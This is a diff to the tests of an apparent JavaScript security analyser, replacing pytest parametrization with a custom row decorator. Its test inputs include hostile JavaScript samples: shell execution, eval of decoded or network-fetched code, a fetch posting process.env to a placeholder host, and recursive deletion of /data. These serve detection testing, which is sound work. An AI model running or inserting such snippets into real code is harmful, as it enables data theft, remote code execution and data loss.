@@ -3,6 +3,7 @@
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from tests.rows import each_row
 
 from prowess.safety.facts import Act, Reading
 from prowess.safety.languages.javascript.facts import read_javascript
@@ -27,7 +28,7 @@ def flows(code: str, act: Act) -> set[str]:
     return {label for fact in read(code).facts if fact.act is act for label in fact.flow}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         "require('child_process').exec('id')",
@@ -55,7 +56,7 @@ def test_a_command_is_a_shell_snippet_however_it_is_spelled(code: str) -> None:
     assert [(part.language, part.view.text) for part in reading.snippets] == [("shell", "id")]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         "eval(atob('YWxlcnQoMSk='))",
@@ -79,7 +80,7 @@ def test_decoded_text_that_is_evaluated_is_code_with_that_origin(code: str) -> N
     assert ("javascript", "alert(1)") in {(s.language, s.view.text) for s in reading.snippets}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         "let m; while ((m = /a(b)/g.exec(s)) !== null) {}",
@@ -97,7 +98,7 @@ def test_look_alikes_of_eval_and_exec_are_not_facts(code: str) -> None:
     assert Act.EXEC not in {act for act, _subject in acts(code)}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         f"require('https').get('{HOST}/p', r => r.on('data', d => eval(String(d))))",
@@ -120,7 +121,7 @@ def test_text_from_the_network_that_is_run_is_a_flow(code: str) -> None:
     assert Act.FETCH in {act for act, _subject in acts(code)}
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("code", "label"),
     [
         (f"fetch('{HOST}', {{method: 'POST', body: JSON.stringify(process.env)}})", "env"),
@@ -195,7 +196,7 @@ def test_a_shell_piped_to_a_socket_is_a_reverse_shell() -> None:
     assert (Act.REVERSE_SHELL, "net") in acts(code)
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("code", "expected"),
     [
         ("require('fs').rmSync('/data', {recursive: true})", (Act.DELETE, "/data")),
@@ -267,7 +268,7 @@ def test_what_reaches_the_text_from_outside_flows_on() -> None:
     assert fact.flow == {"input", "remote"}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text", ["(" * 50_000, "`${" * 20_000, "()=>{" * 20_000, "'" * 30_000, "x=" + "'a'+" * 20_000]
 )
 def test_hostile_nesting_comes_to_an_end(text: str) -> None:
